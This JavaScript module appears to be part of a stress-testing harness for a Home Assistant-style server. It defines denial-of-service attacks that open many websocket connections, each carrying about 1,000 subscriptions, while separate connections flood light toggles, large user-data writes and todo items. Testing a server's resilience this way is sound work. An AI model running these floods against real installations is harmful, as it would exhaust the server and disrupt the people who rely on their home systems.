// Thousands of subscriptions, and changes sent to all of them.

import { maskedFrame } from '../load/frame-reader.js';
import { floodHttp, requestOf } from './attacker-http.js';
import { commandFrame, openAttacker, pause } from './attacker-socket.js';

const EACH = 1000; // as many as one connection of a user may have

/** Connections with the maximum number of subscriptions; `change` causes what they receive. */
function subscribed(name, { who = 'user', sockets = 20, subscription, change }) {
  return {
    name: `attack: ${name}, ${sockets} × 1,000 subscriptions`,
    async run(home, { until, tally }) {
      const fields = JSON.stringify(subscription(home)).slice(1, -1);
      const frame = commandFrame(EACH, () => fields);
      const caller = { url: home.url, token: home.tokens[who] };
      const hold = async () => {
        while (performance.now() < until) {
          const socket = await openAttacker(caller).catch(() => undefined);
          if (socket === undefined) {
            tally.refused += 1;
            await pause(100);
            continue;
          }
          await socket.write(frame);
          tally.sent += EACH;
          await Promise.race([socket.closed, pause(until - performance.now())]);
          tally.answers += socket.answers;
          if (!socket.isOpen) tally.ended += 1;
          socket.destroy();
          await pause(50);
        }
      };
      await Promise.all([...Array.from({ length: sockets }, hold), change?.(home, { until, tally })]);
    },
  };
}

/** A light toggled over four connections without pause. */
function toggles({ url, tokens, targets }, span) {
  const body = JSON.stringify({ entity_id: targets.light });
  const bytes = requestOf(
    { url, token: tokens.user },
    { method: 'POST', path: '/api/services/light/toggle', body },
  );
  return floodHttp({ url, connections: 4, bytes }, span);
}

/** Commands over a separate connection, a hundred per second. */
function commands(make, who = 'user') {
  return async ({ url, tokens, targets }, { until, tally }) => {
    await pause(500);
    const socket = await openAttacker({ url, token: tokens[who] });
    for (let id = 1; performance.now() < until && socket.isOpen; id += 1) {
      await socket.write(maskedFrame(JSON.stringify({ id, ...make(targets, id) })));
      tally.sent += 1;
      await pause(10);
    }
    if (!socket.isOpen) tally.ended += 1;
    socket.destroy();
  };
}

const userData = (_targets, n) => ({
  type: 'frontend/set_user_data',
  key: 'attack',
  value: `${n}${'x'.repeat(190_000)}`,
});

const addItem = (targets, n) => ({
  type: 'call_service',
  domain: 'todo',
  service: 'add_item',
  target: { entity_id: targets.todo },
  service_data: { item: `item ${n} ${'x'.repeat(200)}` },
});

export const subscriptionAttacks = [
  subscribed('state_changed under a toggled light', {
    subscription: () => ({ type: 'subscribe_events', event_type: 'state_changed' }),
    change: toggles,
  }),
  subscribed('subscribe_entities under a toggled light', {
    subscription: () => ({ type: 'subscribe_entities' }),
    change: toggles,
  }),
  subscribed('render_template of a toggled light', {
    subscription: ({ targets }) => ({
      type: 'render_template',
      template: `{{ states('${targets.light}') }}{% for i in range(300) %}{{ i }}{% endfor %}`,
    }),
    change: toggles,
  }),
  subscribed('subscribe_condition under a toggled light', {
    subscription: ({ targets }) => ({
      type: 'subscribe_condition',
      condition: { condition: 'state', entity_id: targets.light, state: 'on' },
    }),
    change: toggles,
  }),
  subscribed('todo/item/subscribe of a growing list', {
    subscription: ({ targets }) => ({ type: 'todo/item/subscribe', entity_id: targets.todo }),
    change: commands(addItem),
  }),
  subscribed('subscribe_user_data of 190 kB that change, read-only', {
    who: 'guest',
    sockets: 5,
    subscription: () => ({ type: 'frontend/subscribe_user_data', key: 'attack' }),
    change: commands(userData, 'guest'),
  }),
  subscribed('subscribe_events, read-only', {
    who: 'guest',
    sockets: 200,
    subscription: () => ({ type: 'subscribe_events', event_type: 'state_changed' }),
  }),
  subscribed('weather/subscribe_forecast, read-only', {
    who: 'guest',
    subscription: ({ targets }) => ({
      type: 'weather/subscribe_forecast',
      entity_id: targets.weather,
      forecast_type: 'hourly',
    }),
  }),
];
